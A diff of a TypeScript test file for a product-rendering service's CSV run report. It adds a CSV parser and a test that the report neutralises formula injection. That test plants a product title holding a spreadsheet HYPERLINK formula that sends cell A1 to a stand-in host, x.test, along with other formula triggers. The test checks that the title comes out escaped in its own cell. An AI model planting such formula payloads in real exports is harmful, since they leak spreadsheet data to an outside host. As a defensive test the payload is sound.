@@ -28,6 +28,7 @@ import { bulkRunItems, bulkRuns, renders, usageLedger, type BulkRun, type Tenant
 import { createZeroLatencyBackend } from '#test/fakes/zero-latency-backend.ts'
 import { createLocalTenant, productSceneLook } from '#test/support/fixtures.ts'
 import { isolateQueue } from '#test/support/isolation.ts'
+import { parseCsv } from '#test/support/csv.ts'
 import { releaseAll, sleep, waitFor } from '#test/support/queue.ts'
 
 // Bulk runs on a folder catalog, end to end in one process: the catalog read,
@@ -418,10 +419,10 @@ describe('the report and another shop', () => {
     const bytes = new Uint8Array(await new Response(bulkRunReport(tenant.id, run)).arrayBuffer())
     // A byte order mark first, so spreadsheet programs read UTF-8.
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
-    const lines = new TextDecoder().decode(bytes).trimEnd().split('\r\n')
-    expect(lines[0]).toBe('product_id,product_title,image_id,look,status,render_id,fidelity_score,error_code,error')
+    const lines = parseCsv(new TextDecoder().decode(bytes.subarray(3)))
+    expect(lines[0]).toEqual(['product_id', 'product_title', 'image_id', 'look', 'status', 'render_id', 'fidelity_score', 'error_code', 'error'])
     expect(lines).toHaveLength(13)
-    const rows = lines.slice(1).map((l) => l.split(','))
+    const rows = lines.slice(1)
     const items = await itemsOf(run.id)
     expect(rows.map((r) => r[0])).toEqual(items.map((i) => i.productRef).sort())
     const ok = rows.find((r) => r[4] === 'succeeded')!
@@ -429,9 +430,19 @@ describe('the report and another shop', () => {
     expect(ok[5]).toBe(okItem.renderId)
     expect(Number(ok[6])).toBeGreaterThan(0)
     expect(ok[3]).toBe(`${look.marketId} / ${look.sceneId} / no-model / product_scene`)
-    const failed = lines.find((l) => l.includes(',failed,'))
-    expect(failed).toContain('BACKEND_FAILED')
-    expect(failed).toContain('odd seeds are refused by this test backend')
+    const failed = rows.find((r) => r[4] === 'failed')
+    expect(failed?.[7]).toBe('BACKEND_FAILED')
+    expect(failed?.[8]).toContain('odd seeds are refused by this test backend')
+  })
+
+  it('writes a hostile product title as text in its own cell', async () => {
+    const [item] = await itemsOf(run.id)
+    const title = ' =HYPERLINK("http://x.test/?"&A1,"open");=1+2,\r\n@SUM(1)'
+    await db().update(bulkRunItems).set({ productTitle: title }).where(and(eq(bulkRunItems.runId, run.id), eq(bulkRunItems.productRef, item.productRef), eq(bulkRunItems.imageRef, item.imageRef)))
+    const rows = parseCsv((await new Response(bulkRunReport(tenant.id, run)).text()).replace(/^\uFEFF/, ''))
+    expect(rows).toHaveLength(13)
+    expect(rows.every((r) => r.length === 9)).toBe(true)
+    expect(rows.find((r) => r[0] === item.productRef && r[2] === item.imageRef)?.[1]).toBe(`'${title}`)
   })
 
   it('serves the CSV from the resource route, and 404 for another shop’s run', async () => {
